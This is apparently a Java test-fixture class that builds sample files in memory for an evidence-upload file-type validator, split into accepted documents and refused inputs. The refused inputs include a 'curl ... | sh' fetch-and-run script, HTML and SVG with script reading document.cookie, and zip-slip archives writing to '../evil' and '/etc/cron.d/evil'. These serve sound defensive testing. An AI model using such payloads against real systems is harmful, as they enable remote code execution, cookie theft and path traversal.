package com.qinglian.evidence;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Small real evidence files, good and bad, built in memory. */
public final class EvidenceSamples {

    private EvidenceSamples() {}

    // ---- accepted ----

    public static byte[] pdf() {
        String body = """
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
                trailer << /Root 1 0 R >>
                %%EOF
                """;
        return ascii(body);
    }

    /** A PDF preceded by a few bytes of non-markup junk, which PDF readers accept within the first 1024 bytes. */
    public static byte[] pdfAfterJunk() {
        return concat(ascii("garbage from a scanner driver\n"), pdf());
    }

    public static byte[] png() {
        return image("png");
    }

    public static byte[] jpeg() {
        return image("jpg");
    }

    public static byte[] gif() {
        return image("gif");
    }

    public static byte[] bmp() {
        return image("bmp");
    }

    /** A RIFF container marked WEBP; the detector looks at the container header only. */
    public static byte[] webp() {
        return concat(ascii("RIFF"), new byte[] {26, 0, 0, 0}, ascii("WEBPVP8 "), new byte[18]);
    }

    public static byte[] tiff() {
        return concat(new byte[] {'I', 'I', 42, 0, 8, 0, 0, 0}, new byte[32]);
    }

    public static byte[] docx() {
        try (XWPFDocument document = new XWPFDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.createParagraph().createRun().setText("2024 年度廉政教育会议纪要");
            document.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] xlsx() {
        try (XSSFWorkbook workbook = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.createSheet("台账").createRow(0).createCell(0).setCellValue("谈话提醒");
            workbook.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] pptx() {
        try (XMLSlideShow slides = new XMLSlideShow();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            slides.createSlide();
            slides.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] xls() {
        try (HSSFWorkbook workbook = new HSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.createSheet("台账").createRow(0).createCell(0).setCellValue("谈话提醒");
            workbook.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** An OLE2 compound file with a WordDocument stream, as Word 97-2003 and WPS Writer save. */
    public static byte[] doc() {
        return ole2(Map.of("WordDocument", new byte[4096]));
    }

    public static byte[] ppt() {
        return ole2(Map.of("PowerPoint Document", new byte[4096]));
    }

    /** An OFD (GB/T 33190) package: a zip with OFD.xml at its root. */
    public static byte[] ofd() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put(
                "OFD.xml",
                utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:OFD xmlns:ofd=\"http://www.ofdspec"
                        + ".org/2016\" Version=\"1.0\" DocType=\"OFD\"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml"
                        + "</ofd:DocRoot></ofd:DocBody></ofd:OFD>"));
        entries.put(
                "Doc_0/Document.xml",
                utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:Document "
                        + "xmlns:ofd=\"http://www.ofdspec.org/2016\"/>"));
        return zip(entries);
    }

    // ---- refused ----

    /** A Windows program, as one renamed to .pdf would be. */
    public static byte[] windowsExecutable() {
        return concat(ascii("MZ"), new byte[58], ascii("This program cannot be run in DOS mode.\r\n"), new byte[64]);
    }

    public static byte[] linuxExecutable() {
        return concat(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1}, new byte[57]);
    }

    public static byte[] shellScript() {
        return ascii("#!/bin/sh\ncurl http://example.invalid/x | sh\n");
    }

    public static byte[] htmlWithScript() {
        return utf8("<!DOCTYPE html>\n<html><body><script>fetch('/api/users')</script></body></html>\n");
    }

    /** HTML behind a UTF-8 byte-order mark and blank lines. */
    public static byte[] htmlAfterBom() {
        return concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8("\n\n  <html><script>x()</script>"));
    }

    public static byte[] htmlInUtf16() {
        return concat(
                new byte[] {(byte) 0xFF, (byte) 0xFE},
                "<html><script>x()</script></html>".getBytes(StandardCharsets.UTF_16LE));
    }

    public static byte[] svgWithScript() {
        return utf8("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>");
    }

    /** Starts as text, so browsers would sniff it as HTML, and carries a PDF further on. */
    public static byte[] htmlThenPdf() {
        return concat(utf8("hello <html><script>alert(1)</script></html>\n"), pdf());
    }

    public static byte[] plainText() {
        return utf8("会议记录:全体干部参加廉政教育。\n");
    }

    public static byte[] plainZip() {
        return zip(Map.of("readme.txt", utf8("hello")));
    }

    public static byte[] zipSlip() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("OFD.xml", utf8("<ofd:OFD/>"));
        entries.put("../evil", utf8("owned"));
        return zip(entries);
    }

    public static byte[] zipWithAbsoluteName() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", utf8("<Types/>"));
        entries.put("word/document.xml", utf8("<document/>"));
        entries.put("/etc/cron.d/evil", utf8("* * * * * root sh"));
        return zip(entries);
    }

    public static byte[] zipWithEntries(int count) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("OFD.xml", utf8("<ofd:OFD/>"));
        for (int i = 1; i < count; i++) {
            entries.put("Doc_0/Res/" + i + ".xml", utf8("<r/>"));
        }
        return zip(entries);
    }

    /** A Word document with macros (.docm). */
    public static byte[] docxWithMacros() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", utf8("<Types/>"));
        entries.put("word/document.xml", utf8("<document/>"));
        entries.put("word/vbaProject.bin", new byte[64]);
        return zip(entries);
    }

    /** A password-protected Office 2007+ document: OLE2 holding EncryptionInfo and EncryptedPackage. */
    public static byte[] encryptedOffice() {
        Map<String, byte[]> streams = new LinkedHashMap<>();
        streams.put("EncryptionInfo", new byte[256]);
        streams.put("EncryptedPackage", new byte[4096]);
        return ole2(streams);
    }

    /** An OLE2 compound file that is no Office document (installers are OLE2 too). */
    public static byte[] foreignOle2() {
        return ole2(Map.of("SummaryInformation", new byte[512], "Installer", new byte[4096]));
    }

    /** Starts like a zip but its directory is garbage. */
    public static byte[] damagedZip() {
        return concat(new byte[] {'P', 'K', 3, 4}, utf8("not really a zip at all, just text after the magic"));
    }

    public static byte[] ofSize(int size) {
        byte[] bytes = pdf();
        return Arrays.copyOf(bytes, size);
    }

    public static InputStream stream(byte[] bytes) {
        return new ByteArrayInputStream(bytes);
    }

    // ---- building blocks ----

    private static byte[] image(String format) {
        BufferedImage image = new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB);
        image.setRGB(1, 1, 0xCC0000);
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("no ImageIO writer for " + format);
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] ole2(Map<String, byte[]> streams) {
        try (POIFSFileSystem fs = new POIFSFileSystem();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            for (Map.Entry<String, byte[]> stream : streams.entrySet()) {
                fs.createDocument(new ByteArrayInputStream(stream.getValue()), stream.getKey());
            }
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] zip(Map<String, byte[]> entries) {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
            zip.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
